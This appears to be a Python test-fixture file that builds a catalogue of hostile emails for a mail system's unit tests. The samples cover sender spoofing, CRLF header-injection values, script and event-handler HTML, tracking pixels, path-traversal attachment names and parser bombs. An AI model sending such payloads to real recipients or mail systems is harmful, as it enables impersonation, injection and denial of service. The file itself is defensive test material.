"""Mails that mean harm, as data: ``HOSTILE`` by name, with its kind before the colon.

What must hold for all of them is in ``tests/unit/mail/test_hostile.py``.
"""

from __future__ import annotations

import base64
import struct

from tests.fakes.winmail import attribute, mail_with, winmail

_HEAD = "From: a@b.example\r\nTo: team@x.example\r\nMessage-ID: <h@b.example>\r\n"


def _mail(header: str = "", body: str | bytes = "hello", *, head: str = _HEAD) -> bytes:
    text = body.encode("utf-8", "surrogateescape") if isinstance(body, str) else body
    return (head + header.replace("\n", "\r\n")).encode("utf-8", "surrogateescape") + (
        b"\r\n" + text
    )


def _html(body: str) -> bytes:
    return _mail("Subject: s\nContent-Type: text/html; charset=utf-8\n", body)


def _file(disposition: str, kind: str = "application/octet-stream") -> bytes:
    return _mail(
        "Subject: s\nContent-Type: multipart/mixed; boundary=b\n",
        "--b\r\nContent-Type: text/plain\r\n\r\nsee file\r\n--b\r\n"
        f"Content-Type: {kind}\r\nContent-Disposition: attachment; {disposition}\r\n\r\n"
        "MZ\r\n--b--\r\n",
    )


def _word(label: str, data: bytes) -> str:
    return f"=?{label}?B?{base64.b64encode(data).decode()}?="


def _nested(depth: int, kind: str = "mixed") -> bytes:
    opened = "".join(
        f"Content-Type: multipart/{kind}; boundary=b{at}\r\n\r\n--b{at}\r\n" for at in range(depth)
    )
    return (_HEAD + opened + "Content-Type: text/plain\r\n\r\ndeep").encode()


def _enclosed(depth: int) -> bytes:
    return (_HEAD + "Content-Type: message/rfc822\r\n\r\n" * depth + "Subject: x\r\n\r\ny").encode()


_SPOOFED = {
    "name holds another address": _mail('From: "boss@firm.example" <evil@bad.example>\n', head=""),
    "two From fields": _mail("From: a@b.example\nFrom: boss@firm.example\n", head=""),
    "many senders in one From": _mail("From: boss@firm.example, evil@bad.example\n", head=""),
    "right-to-left name": _mail("From: \u202eelpmaxe.mrif@ssob <evil@bad.example>\n", head=""),
    "encoded address": _mail(
        f"From: {_word('utf-8', b'boss@firm.example <x@y>')} <evil@bad.example>\n", head=""
    ),
    "NUL in the address": _mail("From: boss@firm.example\x00.evil.example <a\x00@b>\n", head=""),
    "comment around the address": _mail("From: (boss@firm.example) evil@bad.example\n", head=""),
    "empty From": _mail("From: <>\n", head=""),
    "group of nobody": _mail("From: undisclosed: ;\n", head=""),
    "look-alike letters": _mail("From: boss@fіrm.example\n", head=""),
    "new lines in the name": _mail(
        f"From: {_word('utf-8', b'Boss' + chr(10).encode() + b'Bcc: all@x')} <e@x.example>\n",
        head="",
    ),
    "claims to be us": _mail("From: team@x.example\nSubject: paid\n", head=""),
    "unended quotes": _mail('From: "boss <evil@bad.example>\nTo: "a" "b" <c\n', head=""),
}
_INJECTED = {
    "CRLF in an encoded subject": _mail(
        f"Subject: {_word('utf-8', b'x' + b'%c%c' % (13, 10) + b'Bcc: evil@bad.example')}\n"
    ),
    "LF in a quoted-printable word": _mail("Subject: =?utf-8?Q?x=0ABcc:_evil=40bad?=\n"),
    "line separator": _mail("Subject: a\u2028Bcc: evil@bad\u2029x\u0085y\n"),
    "NUL in the subject": _mail("Subject: pay\x00ment\n"),
    "bidi override in the subject": _mail("Subject: \u202egpj.exe\u202c \u2066x\u2069\n"),
    "lone surrogate by UTF-8": _mail(
        b"Subject: \xed\xa0\x80x\n".decode("utf-8", "surrogateescape")
    ),
    "lone surrogate by UTF-16": _mail(
        f"Subject: {_word('utf-16-le', b'a' + bytes([0, 0, 0xD8]))}\n"
    ),
    "escape sequences for a terminal": _mail(
        "Subject: \x1b]0;owned\x07\x1b[2J\n", "\x1b[2Jx\x9b31m"
    ),
    "CR in a Message-ID": _mail("Message-ID: <a\rBcc:x@b>\nReferences: <\r\n c@d>\n", head=""),
    "header in the file name": _file('filename="a\\\r\n\tBcc: x.txt"'),
    "header by RFC 2231": _file("filename*=utf-8''a%0D%0ABcc%3A%20x%00.txt"),
    "tab and fold in names": _mail("From: a\n\tb\n\t<c@d>\nSubject: x\n \n y\n", head=""),
}
_ACTIVE = {
    "script": _html("<script>alert(1)</script><p>x</p>"),
    "broken script": _html("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    "event handlers": _html(
        '<img src=x onerror="alert(1)"><body onload=alert(1)><a onclick=x>y</a>'
    ),
    "javascript link": _html(
        '<a href="java\tscript:alert(1)">x</a><a href="&#106;avascript:1">y</a>'
    ),
    "data link": _html('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><iframe src="data:x">'),
    "file link": _html('<a href="file:///etc/passwd">x</a><img src="file://host/share/a.png">'),
    "form": _html(
        '<form action="https://bad.example"><input name=p><button>Log in</button></form>'
    ),
    "object": _html('<object data="x.swf"></object><embed src=x><applet code=x></applet>'),
    "meta refresh": _html('<meta http-equiv="refresh" content="0;url=https://bad.example"><p>x'),
    "base": _html('<base href="https://bad.example/"><a href="/x">y</a>'),
    "SVG": _html('<svg onload=alert(1)><script>x</script><a xlink:href="javascript:1">z</a></svg>'),
    "style that runs": _html('<div style="width:expression(alert(1));behavior:url(x.htc)">x</div>'),
    "mutation": _html('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    "template and math": _html("<math><mtext><table><mglyph><style><img src onerror=1></style>"),
    "conditional comment": _html("<!--[if gte mso 9]><script>x</script><![endif]--><p>x</p>"),
}
_REMOTE = {
    "picture": _html('<img src="https://bad.example/p.gif?id=1" width=1 height=1>'),
    "picture by CSS": _html('<div style="background:url(https://bad.example/x)">a</div>'),
    "stylesheet": _html('<link rel=stylesheet href="https://bad.example/x.css"><style>@import '
                        '"https://bad.example/y.css";</style>x'),
    "srcset and poster": _html('<img srcset="//bad.example/a 2x"><video poster=//bad.example/p>'),
    "background attribute": _html('<table background="//bad.example/x"><tr><td>x</table>'),
    "prefetch": _html('<link rel=dns-prefetch href="//b.example"><a ping="//b.example">x</a>'),
    "external body": _mail(
        'Content-Type: message/external-body; access-type=URL; URL="https://bad.example/x"\n', ""
    ),
    "receipt wanted": _mail("Disposition-Notification-To: spy@bad.example\nSubject: s\n"),
}  # fmt: skip
_NAMES = {
    "traversal": _file('filename="../../../etc/passwd"'),
    "traversal of Windows": _file('filename="..\\..\\Startup\\x.exe"'),
    "absolute": _file('filename="/etc/cron.d/x"'),
    "drive": _file('filename="C:evil.exe"'),
    "device": _file('filename="CON.txt"'),
    "device with digits": _file('filename="com¹"'),
    "right-to-left": _file("filename*=utf-8''invoice%E2%80%AEfdp.exe"),
    "NUL": _file("filename*=utf-8''a.pdf%00.exe"),
    "dots and blanks": _file('filename=" ... "'),
    "very long": _file(f'filename="{"あ" * 3_000}.pdf"'),
    "stream": _file('filename="a.txt:evil.exe:$DATA"'),
    "hidden end": _file(f'filename="invoice.pdf{" " * 200}.exe"'),
    "empty": _file('filename=""'),
    "slash in JIS": _file(
        f'filename="{_word("iso-2022-jp", b"../" + b"%c$B@A5a%c(B" % (27, 27))}"'
    ),
    "a thousand segments": _file(";".join(f"filename*{n}*=%2E%2E%2F" for n in range(1_000))),
    "segments that never begin": _file('filename*999*="x"; filename*1*=%41; filename*0=b'),
}
_BOMBS = {
    "deep multiparts": _nested(5_000),
    "deep alternatives": _nested(500, "alternative"),
    "mails in mails": _enclosed(5_000),
    "many parts": _mail(
        "Content-Type: multipart/mixed; boundary=b\n", "--b\r\n\r\nx\r\n" * 50_000 + "--b--"
    ),
    "many addresses": _mail("To: " + "a@b.example, " * 30_000 + "\n"),
    "many names": _mail("Cc: " + '"x\\"" (c(d(e))) <a@b>,' * 10_000 + "\n"),
    "a megabyte of encoded-words": _mail("Subject: " + "=?utf-8?B?44GC?=\n " * 50_000 + "\n"),
    "unended encoded-words": _mail("Subject: " + "=?utf-8?B?" * 100_000 + "\n"),
    "many fields": _mail("X-A: b\n" * 200_000),
    "a field of ten megabytes": _mail("Subject: " + "a" * 10_000_000 + "\n"),
    "many references": _mail("References: " + "<a@b> <c@d>\n " * 50_000 + "\n"),
    "many parameters": _mail("Content-Type: text/plain" + "; a=b" * 100_000 + "\n"),
    "quotes in parameters": _mail('Content-Type: text/plain; a="' + "\\" * 100_000 + "\n"),
    "a line of a megabyte": _mail("", "a" * 1_000_000 + " "),
    "many quotes": _mail("", ("> " * 500 + "\r\n") * 2_000),
    "many tags": _html("<div>" * 100_000),
    "many attributes": _html("<a " + "x=y " * 200_000 + ">"),
    "many entities": _html("&amp;" * 200_000),
    "unended comments": _html("<!--" * 200_000),
    "many open brackets": _html("<" * 500_000),
    "long run of dashes": _mail("", "-" * 200_000 + "\r\n" + "- " * 100_000),
    "attribution that never ends": _mail("", ("On " + "x" * 150 + " 2026 " + "\r\n") * 5_000),
    "base64 of nothing": _mail("Content-Transfer-Encoding: base64\n", "=" * 1_000_000),
    "soft breaks": _mail("Content-Transfer-Encoding: quoted-printable\n", "= " * 300_000),
    "uuencoded": _mail(
        "Content-Transfer-Encoding: x-uuencode\n", "begin 6\r\n" + "M\r\n" * 200_000
    ),
    "folded without end": _mail("Subject: x" + "\n " * 200_000 + "\n"),
    "only blanks": b" \t" * 500_000,
    "only line ends": b"\r\n" * 500_000,
    "only carriage returns": b"\r" * 1_000_000,
    "no line end": b"Subject: " + b"x" * 1_000_000,
    "winmail of winmails": mail_with(
        winmail(
            b"".join(
                attribute(2, 0x00069002, b"") + attribute(2, 0x0006800F, b"x") for _ in range(5_000)
            )
        )
    ),
    "winmail that claims much": mail_with(
        struct.pack("<IH", 0x223E9F78, 1) + struct.pack("<BII", 2, 0x0006800F, 0x7FFFFFFF)
    ),
    "calendar without end": _mail(
        "Content-Type: text/calendar\n", "BEGIN:VEVENT\r\nSUMMARY" + ";A=b" * 60_000 + ":x\r\n"
    ),
    "signed without end": _mail("", "-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\nx\r\n" * 20_000),
    "cut escapes": _mail("", b"$B!!(B" * 100_000),
}
_CHARSETS = {
    "unknown": _mail("Content-Type: text/plain; charset=klingon-8\n", b"\xe8\xbf\x94"),
    "a codec that is none": _mail("Content-Type: text/plain; charset=zlib_codec\n", b"x\x9c\x03\0"),
    "idna": _mail("Content-Type: text/plain; charset=idna\n", "x" * 100_000),
    "unicode_escape": _mail("Content-Type: text/plain; charset=unicode_escape\n", r"\ud800\x00"),
    "utf-7": _mail("Content-Type: text/plain; charset=utf-7\n", "+2AA-+AAA-<+ADw-script+AD4-"),
    "utf-16 without pairs": _mail(
        "Content-Type: text/plain; charset=utf-16\n", b"\xff\xfe\x00\xd8"
    ),
    "JIS that never returns": _mail(
        "Subject: =?iso-2022-jp?B?GyRCSlZJSg==?=\nContent-Type: text/plain; charset=iso-2022-jp\n",
        b"\x1b$BJVIJ\n\x1b\x1b$\x1b(\x1b$BJ",
    ),
    "escapes of all kinds": _mail(
        "Content-Type: text/plain; charset=iso-2022-jp\n",
        b'\x1b$(D"/\x1b$(O\x1b(I1\x1b(J~\x1b.A\x1bN\x1b$A\x1b$)C\x0e\x0f\x1b%G\x1b&@',
    ),
    "halves of characters": _mail("Content-Type: text/plain; charset=cp932\n", b"\x95" * 1_001),
    "five bytes of UTF-8": _mail(
        "Content-Type: text/plain; charset=utf-8\n", b"\xf8\x88\x80\x80\x80x"
    ),
    "too short forms": _mail("Subject: x\n", b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf"),
    "hz": _mail("Content-Type: text/plain; charset=hz-gb-2312\n", b"~{VPND~~}~{" + b"~{" * 9_999),
    "words of many charsets": _mail(
        "Subject: "
        + "".join(_word(c, b"\x83\x65\x83") for c in ("cp932", "euc-jp", "x", "utf-7"))
        + "\n"
    ),
    "a charset with a line end": _mail('Content-Type: text/plain; charset="utf-8\\\n Bcc: x"\n'),
}
_LOOPS = {
    "our own mark": _mail("X-Mailroom: 1\nAuto-Submitted: auto-replied\nSubject: Re: Re: Re:\n"),
    "answers itself": _mail("In-Reply-To: <h@b.example>\nReferences: <h@b.example>\n"),
    "bounce of a bounce": _mail(
        "Subject: failure\n"
        "Content-Type: multipart/report; report-type=delivery-status; boundary=b\n",
        "--b\r\nContent-Type: message/delivery-status\r\n\r\nStatus: 5.0.0\r\n--b\r\n"
        "Content-Type: message/rfc822\r\n\r\n" * 50 + "Message-ID: <x@y>\r\n",
    ),
    "from nobody": _mail("Return-Path: <>\nFrom: MAILER-DAEMON\nSubject: x\n", head=""),
    "subject of marks": _mail("Subject: " + "Re: Fwd: 返信: RE[2]: " * 2_000 + "\n"),
    "without anything": b"",
    "only a body": b"\r\nhello",
    "sent in the year 9999": _mail("Date: Fri, 31 Dec 9999 23:59:59 -1200\nSubject: x\n"),
    "sent at no time": _mail("Date: Mon, 99 Foo 0000 99:99:99 +9999 (((((\nSubject: x\n"),
}

HOSTILE: dict[str, bytes] = {
    f"{kind}: {name}": raw
    for kind, mails in {
        "spoofing": _SPOOFED,
        "injection": _INJECTED,
        "active": _ACTIVE,
        "remote": _REMOTE,
        "names": _NAMES,
        "bombs": _BOMBS,
        "charsets": _CHARSETS,
        "loops": _LOOPS,
    }.items()
    for name, raw in mails.items()
}
